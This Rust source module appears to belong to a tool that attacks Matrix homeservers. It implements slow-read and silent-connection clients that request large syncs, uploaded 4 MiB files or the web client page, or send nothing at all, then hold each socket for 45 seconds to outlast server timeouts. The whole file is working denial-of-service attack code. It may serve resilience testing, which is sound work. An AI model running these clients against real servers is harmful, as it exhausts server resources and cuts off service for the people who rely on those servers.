//! Clients that hold a connection and take nothing from it.

use std::time::Duration;

use anyhow::{Context as _, Result};
use bytes::Bytes;
use http::Method;
use tokio::time::sleep;

use super::client::{Answer, Client, begin, head};

/// What the attacker's system takes of an answer before the client reads, bytes.
const RECEIVE_BYTES: u32 = 4_096;
/// Longer than the server waits for anybody.
const HOLD: Duration = Duration::from_secs(45);
/// A filter for as much as a sync gives.
const ALL: &str = "%7B%22room%22%3A%7B%22timeline%22%3A%7B%22limit%22%3A500%7D%7D%7D";
/// Bytes of the file that is downloaded.
const FILE_BYTES: usize = 4 << 20;

/// Asks for something large and reads nothing of it: a whole sync, a file, the web client's page.
pub(super) async fn read_nothing(client: &Client<'_>) -> Result<Answer> {
    let path = match client.number % 3 {
        0 => format!("/_matrix/client/v3/sync?timeout=0&filter={ALL}"),
        1 => format!("/_matrix/client/v1/media/download/{}", file(client).await?),
        _ => "/".to_owned(),
    };
    let stream = begin(client, &head(client, "GET", &path, ""), Some(RECEIVE_BYTES)).await?;
    sleep(HOLD).await;
    drop(stream);
    Ok(None)
}

/// Uploads a file, and gives its server and id.
async fn file(client: &Client<'_>) -> Result<String> {
    let mut connection = client.target.connect_from(client.from).await?;
    let body = Bytes::from(vec![b'x'; FILE_BYTES]);
    let answer = connection.expect(Method::POST, "/_matrix/media/v3/upload", &client.user.token, body).await?;
    let answer: serde_json::Value = serde_json::from_slice(&answer)?;
    let uri = answer["content_uri"].as_str().context("no content_uri")?;
    Ok(uri.trim_start_matches("mxc://").to_owned())
}

/// Opens a connection and says nothing.
pub(super) async fn say_nothing(client: &Client<'_>) -> Result<Answer> {
    let stream = begin(client, "", None).await?;
    sleep(HOLD).await;
    drop(stream);
    Ok(None)
}
